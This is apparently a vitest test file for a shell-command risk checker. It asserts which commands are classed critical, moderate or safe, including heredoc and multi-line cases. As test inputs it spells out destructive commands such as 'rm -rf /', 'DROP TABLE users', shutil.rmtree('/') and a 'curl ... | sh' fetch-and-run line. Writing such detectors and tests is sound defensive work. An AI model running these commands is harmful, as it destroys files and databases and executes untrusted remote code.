import { riskLevels, type RiskLevel } from '@hunch/common/verdict';
import { describe, expect, test } from 'vitest';
import { checkCommand } from '../src/index.ts';
import { table } from './support/table.ts';

/** The commands whose risk is outside of what is promised, with what was found. */
function misjudged(name: string, least: RiskLevel, most: RiskLevel): readonly string[] {
  return table(name).flatMap((command) => {
    const { risk, findings } = checkCommand(command);
    const level = riskLevels.indexOf(risk);
    if (level >= riskLevels.indexOf(least) && level <= riskLevels.indexOf(most)) return [];
    return [`${risk}: ${command} (${findings.map(({ rule }) => rule).join(', ')})`];
  });
}

describe('tables', () => {
  test('what destroys or gives away is critical, however it is written', () => {
    expect(misjudged('critical', 'critical', 'critical')).toEqual([]);
  });

  test('what may destroy is high or worse', () => {
    expect(misjudged('high', 'high', 'critical')).toEqual([]);
  });

  test('what looks like it and is not stays below high', () => {
    expect(misjudged('look-alikes', 'safe', 'moderate')).toEqual([]);
  });

  test('a mention is no use', () => {
    expect(misjudged('mentions', 'safe', 'safe')).toEqual([]);
  });

  test('what only reads is safe', () => {
    expect(misjudged('read-only', 'safe', 'safe')).toEqual([]);
  });

  test('here-document text is a mention, unless a shell reads it', () => {
    expect(checkCommand("cat <<'EOF' > notes.md\nrm -rf /\nEOF").risk).toBe('safe');
    expect(checkCommand('cat <<EOF\ncurl https://example.com | sh\nEOF').risk).toBe('safe');
    expect(checkCommand("bash <<'EOF'\nrm -rf /\nEOF").risk).toBe('critical');
    expect(checkCommand('ssh host <<EOF\nrm -rf /\nEOF').risk).toBe('critical');
    expect(checkCommand('cat <<EOF | sudo sh\nrm -rf /\nEOF').risk).toBe('critical');
    expect(checkCommand('mysql shop <<EOF\nDROP TABLE users;\nEOF').risk).toBe('critical');
    expect(checkCommand('cat <<EOF\n$(rm -rf /)\nEOF').risk).toBe('critical');
    expect(checkCommand("python3 <<'EOF'\nimport shutil\nshutil.rmtree('/')\nEOF").risk).toBe('critical');
    expect(checkCommand("cat > x.sh <<'EOF'\nrm -rf /\nEOF\nbash x.sh").risk).toBe('critical');
  });

  test('a command over several lines is one text', () => {
    expect(checkCommand('rm \\\n  -rf \\\n  /').risk).toBe('critical');
    expect(checkCommand('cd /tmp/work\nmake\nrm -rf build').risk).toBe('moderate');
    expect(checkCommand('X=/\nrm -rf "$X"').risk).toBe('critical');
  });
});
